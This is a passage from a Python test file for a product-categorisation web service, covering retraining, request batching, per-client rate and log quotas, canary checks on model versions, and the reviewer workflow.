    assert out.frame["category"].tolist() == ["A > C", "A > D", "A > E"]
    assert stats == {"feedback": 4, "distinct_products": 3, "relabelled": 2, "added": 1, "original_rows": 2}


def test_retrain_from_the_api_adds_a_version(store_dir: Path, tmp_path: Path) -> None:
    from taxonomist.datasets import sample_path

    with make_client(store_dir, tmp_path) as c:
        assert c.post("/v1/admin/retrain", headers=AUTH).status_code == 409  # no original data configured
    with make_client(store_dir, tmp_path, retrain_data=sample_path("products")) as c:
        assert c.post("/v1/admin/retrain").status_code == 401
        c.post("/v1/feedback", json={"product": {"title": "Zorblax Quantum Hoodie"},
                                     "category": "Apparel > Topwear > Sweatshirts"}, headers=AUTH)
        job = c.post("/v1/admin/retrain", headers=AUTH).json()
        assert job["status"] == "running"
        deadline = time.monotonic() + 300
        while job["status"] == "running" and time.monotonic() < deadline:
            time.sleep(0.5)
            job = c.get(f"/v1/admin/jobs/{job['id']}", headers=AUTH).json()
        assert job["status"] == "done", job
        assert job["version"] == "v0002" and job["feedback"]["added"] == 1
        assert job["new"]["macro_f1"] > 0.5
        assert c.post("/v1/admin/reload", json={}, headers=AUTH).json()["version"] == "v0002"
        assert c.get("/v1/monitor").json().get("reference") == "held-out"  # (issue 35: it had none)


def test_a_large_batch_runs_its_first_stage_off_the_event_loop() -> None:
    """Regression: the first stage ran on the event loop whatever its size; 256 titles of 5,000 characters held
    /healthz for 1.6 s. Batches over the inline cost go to a thread, and the loop keeps answering."""
    import asyncio

    from taxonomist.serving.batcher import MicroBatcher

    where: list[bool] = []

    def first(items: list[str]) -> tuple[list[int], Any]:
        where.append(threading.current_thread() is threading.main_thread())
        if sum(map(len, items)) > 100:
            time.sleep(0.3)  # a slow model call (sleep releases the GIL, as the model's threads hand it over)
        return [len(i) for i in items], None

    async def main() -> None:
        b = MicroBatcher(first, None, window_s=0.001, max_items=64, cost=lambda items: sum(map(len, items)),
                         inline_max_cost=100)
        await b.start()
        assert await b.submit(["short"]) == [5]
        big = asyncio.create_task(b.submit(["x" * 60] * 4))
        await asyncio.sleep(0.05)
        t = time.perf_counter()
        await asyncio.sleep(0.01)  # the loop is free while the big batch works
        assert time.perf_counter() - t < 0.1 and not big.done()
        assert await big == [60] * 4
        await b.stop()

    asyncio.run(main())
    assert where == [True, False]


def test_micro_batcher_answers_the_first_stage_at_once_and_the_rest_from_a_thread() -> None:
    import asyncio

    from taxonomist.serving.batcher import MicroBatcher

    threads: list[str] = []
    seconds: list[list[int]] = []
    release = threading.Event()

    def first(items: list[int]) -> tuple[list[int | None], Any]:
        results = [i * 10 if i % 2 == 0 else None for i in items]
        return results, ([i for i in items if i % 2] or None)

    def second(left: list[int]) -> list[int]:
        threads.append(threading.current_thread().name)
        seconds.append(left)
        release.wait(5)
        if any(i < 0 for i in left):
            raise ValueError("bad item")
        return [i * 10 for i in left]

    async def main() -> None:
        b = MicroBatcher(first, second, window_s=0.02, max_items=2)
        await b.start()
        even = asyncio.create_task(b.submit([2, 4]))
        mixed = asyncio.create_task(b.submit([1, 6]))  # needs the second stage
        done, _ = await asyncio.wait({even, mixed}, timeout=2, return_when=asyncio.FIRST_COMPLETED)
        assert done == {even} and even.result() == [20, 40]  # not held back by the slow second stage
        # requests arriving while the second stage works wait for the next batch
        more = [asyncio.create_task(b.submit([3])), asyncio.create_task(b.submit([5, 7]))]
        await asyncio.sleep(0.2)
        assert not any(m.done() for m in more) and len(seconds) == 1
        release.set()
        assert await mixed == [10, 60]
        assert [await m for m in more] == [[30], [50, 70]]
        assert seconds == [[1], [3], [5, 7]]
        assert threading.main_thread().name not in threads
        with pytest.raises(ValueError, match="bad item"):
            await b.submit([-1])
        await b.stop()

    asyncio.run(main())


def test_one_length_policy_for_files_and_the_api(store_dir: Path, tmp_path: Path) -> None:
    from taxonomist.products import MAX_TITLE_CHARS

    long_title = "x" * (MAX_TITLE_CHARS + 1)
    (tmp_path / "c.csv").write_text(f"title,category\n{long_title},A > B\nshort,A > C\n", encoding="utf-8")
    cat = tx.read_catalog(tmp_path / "c.csv")
    assert len(cat.titles[0]) == MAX_TITLE_CHARS and cat.report.issue("long_text").count == 1  # a file: truncated
    with make_client(store_dir, tmp_path) as c:  # the API: refused at the same length (the default setting is higher)
        r = c.post("/v1/classify", json={"product": {"title": long_title}})
        assert r.status_code == 422 and f"over the limit of {MAX_TITLE_CHARS:,}" in r.json()["detail"]
        assert c.post("/v1/classify", json={"product": {"title": long_title[:-1]}}).status_code == 200


def test_a_photo_is_decoded_once_per_request(store_dir: Path, tmp_path: Path, monkeypatch) -> None:
    import base64

    import taxonomist.images as images

    png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
    calls = []
    real = base64.b64decode
    monkeypatch.setattr(images.base64, "b64decode", lambda *a, **k: calls.append(1) or real(*a, **k))
    with make_client(store_dir, tmp_path) as c:
        r = c.post("/v1/classify", json={"product": {"title": "Blue jeans",
                                                     "image_base64": base64.b64encode(png).decode()}})
        assert r.status_code == 200
    assert len(calls) == 1


def test_request_metrics_have_bounded_labels(client: TestClient) -> None:
    """Issue 34 row 8: the method label was taken as sent (2,000 random methods -> 36,036 series)."""
    for i in range(20):
        client.request(f"X{i}QZ", "/v1/classify")
    text = client.get("/metrics").text
    assert "X1QZ" not in text and 'method="OTHER"' in text


def test_keyless_traffic_does_not_fill_the_drift_window(store_dir: Path, tmp_path: Path) -> None:
    """Issue 34 row 11: keyless requests filled the drift window (35 of them made the public /v1/monitor alert).
    With API keys configured, only keyed classify requests count, unless TAXONOMIST_MONITOR_KEYLESS is set."""
    products = {"products": [{"title": f"Nike Men Running Shoes {i}"} for i in range(5)]}
    with make_client(store_dir, tmp_path) as c:
        assert c.post("/v1/classify", json=products).status_code == 200
        assert c.get("/v1/monitor").json()["n"] == 0
        assert c.post("/v1/classify", json=products, headers=AUTH).status_code == 200
        assert c.get("/v1/monitor").json()["n"] == 5
    with make_client(store_dir, tmp_path / "open", monitor_keyless=True) as c:
        assert c.post("/v1/classify", json=products).status_code == 200
        assert c.get("/v1/monitor").json()["n"] == 5


def test_the_served_prediction_log_has_a_per_client_quota_and_a_size_cap(store_dir: Path, tmp_path: Path) -> None:
    """Issue 34 row 2: the served-prediction log had no quota (35 keyless requests in 10 s wrote 12,881 rows,
    +49 MB). A keyless client logs at most TAXONOMIST_SERVED_LOG_QUOTA_PER_MINUTE predictions a minute (the rest
    are answered, not stored, and counted); the log keeps at most TAXONOMIST_SERVED_LOG_MAX_ROWS, the newest."""
    batch = {"products": [{"title": f"Nike Men Running Shoes {i}"} for i in range(40)]}
    with make_client(store_dir, tmp_path, served_log_quota_per_minute=50, served_log_max_rows=70) as c:
        for _ in range(3):
            assert c.post("/v1/classify", json=batch).status_code == 200
        c.app.state.service.watch.flush_served()
        assert len(ReviewStore(tmp_path / "review.db").served()) == 50  # 120 answered keyless, 50 stored
        assert 'taxonomist_served_not_logged_total{why="quota"} 70.0' in c.get("/metrics").text
        for _ in range(3):  # keyed clients are not limited by the quota; the log keeps its newest 70 rows
            assert c.post("/v1/classify", json=batch, headers=AUTH).status_code == 200
        c.app.state.service.watch.flush_served()
        rows = ReviewStore(tmp_path / "review.db").served()
        assert len(rows) == 70 and rows[-1]["title"] == "Nike Men Running Shoes 39"


def test_a_version_that_crashed_its_canary_is_skipped_at_start_and_refused_at_reload(
        store_dir: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Issue 34 row 4: a bundle that killed the server on its first classify crash-looped it on restart (it
    "loads"). Each version answers a canary prediction before it is served, with a marker file beside it while
    it runs: a marker a dead process left means the canary crashed, and the version is not served again."""
    import socket
    import subprocess
    import sys

    shutil.copytree(store_dir / "v0001", store_dir / "v0002")
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    marker = store_dir / f".v0002.canary.{socket.gethostname()}.{int(dead.stdout)}"
    marker.touch()  # what a process killed by SIGSEGV in the canary leaves
    with caplog.at_level(logging.WARNING, logger="taxonomist"), make_client(store_dir, tmp_path) as c:
        info = c.get("/v1/model").json()
        assert info["version"] == "v0001" and info["skipped_versions"] == ["v0002"]
        r = c.post("/v1/admin/reload", json={"version": "v0002"}, headers=AUTH)
        assert r.status_code == 409 and "canary" in r.json()["detail"] and marker.name in r.json()["detail"]
        assert classify(c, "Nike Men Running Shoes")["model_version"] == "v0001"
        marker.unlink()  # the operator checked the bundle
        assert c.post("/v1/admin/reload", json={"version": "v0002"}, headers=AUTH).status_code == 200
    assert not list(store_dir.glob(".v0002.canary.*"))  # a canary that finished leaves nothing


def test_a_version_whose_canary_answers_garbage_is_refused(store_dir: Path, tmp_path: Path) -> None:
    """A bundle edited and re-hashed so that it loads but answers NaN is refused before it is served."""
    from taxonomist.bundle import sha256_file

    shutil.copytree(store_dir / "v0001", store_dir / "v0002")
    weights = store_dir / "v0002" / "weights.npz"
    with np.load(weights, allow_pickle=False) as data:
        arrays = {k: data[k] for k in data.files}
    arrays["intercept"] = np.full_like(arrays["intercept"], np.nan)
    np.savez_compressed(weights, **arrays)
    manifest = json.loads((store_dir / "v0002" / "manifest.json").read_text())
    manifest["files"]["weights.npz"] = sha256_file(weights)
    (store_dir / "v0002" / "manifest.json").write_text(json.dumps(manifest))
    with make_client(store_dir, tmp_path) as c:
        assert c.get("/v1/model").json()["skipped_versions"] == ["v0002"]
        r = c.post("/v1/admin/reload", json={"version": "v0002"}, headers=AUTH)
        assert r.status_code == 409 and "canary" in r.json()["detail"]


def test_keyless_clients_have_a_budget_of_server_time(store_dir: Path, tmp_path: Path) -> None:
    """Issue 34 row 7: one keyless 1.28 MB request to /v1/query/classify cost 16.5 s of CPU, and nothing limited
    how many a client sent. Each keyless client has TAXONOMIST_KEYLESS_SECONDS_PER_MINUTE of server time on the
    model routes; past it, 429 with Retry-After until the minute has passed. Keyed clients are not limited."""
    queries = {"queries": [f"blue cotton shirt for men {i}" for i in range(50)]}
    products = {"products": [{"title": f"Nike Men Running Shoes {i}"} for i in range(50)]}
    with make_client(store_dir, tmp_path, keyless_seconds_per_minute=0.001) as c:
        assert c.post("/v1/query/classify", json=queries).status_code == 200  # within budget when it started
        for route, body in (("/v1/query/classify", queries), ("/v1/classify", products)):
            r = c.post(route, json=body)
            assert r.status_code == 429, (route, r.text)
            assert "API key" in r.json()["detail"] and int(r.headers["Retry-After"]) >= 1
            assert c.post(route, json=body, headers=AUTH).status_code == 200
        assert c.get("/healthz").status_code == 200
    with make_client(store_dir, tmp_path / "roomy") as c:  # the default budget: ordinary use is not refused
        for _ in range(5):
            assert c.post("/v1/query/classify", json=queries).status_code == 200


def test_a_keyless_client_has_a_bounded_number_of_requests_running() -> None:
    """The budget is charged when a request ends: the concurrency limit bounds what a burst can take first."""
    from taxonomist.serving.limits import Budget, ServiceError

    budget = Budget()
    budget.enter("1.2.3.4", seconds=10.0, concurrency=2)
    budget.enter("1.2.3.4", seconds=10.0, concurrency=2)
    with pytest.raises(ServiceError) as e:
        budget.enter("1.2.3.4", seconds=10.0, concurrency=2)
    assert e.value.status_code == 429 and e.value.headers == {"Retry-After": "1"}
    budget.enter("5.6.7.8", seconds=10.0, concurrency=2)  # another client is not held up
    budget.leave("1.2.3.4", 9.5)
    budget.enter("1.2.3.4", seconds=10.0, concurrency=2)  # 9.5 s of 10 spent: still in
    budget.leave("1.2.3.4", 1.0)
    budget.leave("1.2.3.4", 1.0)
    with pytest.raises(ServiceError, match=r"used 11.5 s .* retry in (59|60) s"):
        budget.enter("1.2.3.4", seconds=10.0, concurrency=2)


def test_a_reviewer_can_dismiss_junk_undo_a_decision_and_is_named(store_dir: Path, tmp_path: Path) -> None:
    """Issue 36: junk ("asdkj qwe zzz", contact details) could only be accepted or skipped, there was no undo, and
    the reviewer's name was never recorded."""
    with make_client(store_dir, tmp_path, review_threshold=1.0) as c:
        ids = [r["review_id"] for r in classify(c, "asdkj qwe zzz", "Nike Men Running Shoes", "blue thing")["results"]]
        junk, shoe, thing = ids
        r = c.post(f"/v1/review/{junk}", json={"dismiss": "not_a_product", "reviewer": "ana"}, headers=AUTH)
        assert r.status_code == 200 and r.json()["status"] == "dismissed" and r.json()["reviewer"] == "ana"
        r = c.post(f"/v1/review/{shoe}", json={"category": "Apparel > Topwear > Tshirts", "reviewer": "ana"},
                   headers=AUTH)
        assert r.json()["status"] == "corrected"
        assert c.post(f"/v1/review/{shoe}/undo", headers=AUTH).json()["status"] == "pending"  # a slip undone
        assert c.post(f"/v1/review/{thing}/undo").status_code == 401  # a write: a key
        assert c.post(f"/v1/review/{thing}/undo", headers=AUTH).status_code == 409  # nothing decided to undo
        pending = {i["id"] for i in c.get("/v1/review", headers=AUTH).json()}
        assert pending == {shoe, thing}
        assert c.get("/v1/review-stats", headers=AUTH).json()["dismissed"] == 1
        assert c.post(f"/v1/review/{thing}", json={"dismiss": "nonsense"}, headers=AUTH).status_code == 422
    store = ReviewStore(tmp_path / "review.db")
    assert store.feedback() == []  # a dismissed product teaches nothing; the undone correction is gone
    assert store.decided() == []  # nor does it count in the live accuracy (no decision on a category)
    store.close()


def test_the_api_docs_describe_every_route_with_working_examples_and_locks_where_a_key_is_needed(
        client: TestClient) -> None:
    """Issue 36: "Try it out" on POST /v1/classify failed with 422 (its example sent `product` and `products`),
    routes had no descriptions, and routes open by default showed a lock."""
    spec = client.get("/openapi.json").json()
    schemas = spec["components"]["schemas"]
    tried = 0
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            assert op.get("description") or op.get("summary", "").strip(), (method, path)
            keyed = path.startswith(("/v1/review", "/v1/feedback", "/v1/admin"))
            assert bool(op.get("security")) == keyed, (method, path)
            ref = op.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {}).get("$ref")
            if ref and path in ("/v1/classify", "/v1/query/classify", "/v1/feedback"):
                example = schemas[ref.rsplit("/", 1)[1]]["examples"][0]
                r = client.post(path, json=example, headers=AUTH)
                assert r.status_code in (200, 201), (path, r.text)
                tried += 1
    assert tried == 3


def test_a_skipped_item_goes_behind_the_others_for_every_reviewer(store_dir: Path, tmp_path: Path) -> None:
    """Issue 36: Skip left the item on top of the queue (the page only moved its own cursor)."""
    with make_client(store_dir, tmp_path, review_threshold=1.0) as c:
        classify(c, "blue thing", "gift for her", "cotton comfort wear")
        first = c.get("/v1/review", headers=AUTH).json()
        assert c.post(f"/v1/review/{first[0]['id']}/skip").status_code == 401
        r = c.post(f"/v1/review/{first[0]['id']}/skip", headers=AUTH)
        assert r.status_code == 200 and r.json()["status"] == "pending"
        again = c.get("/v1/review", headers=AUTH).json()
        assert [i["id"] for i in again] == [i["id"] for i in first[1:]] + [first[0]["id"]]
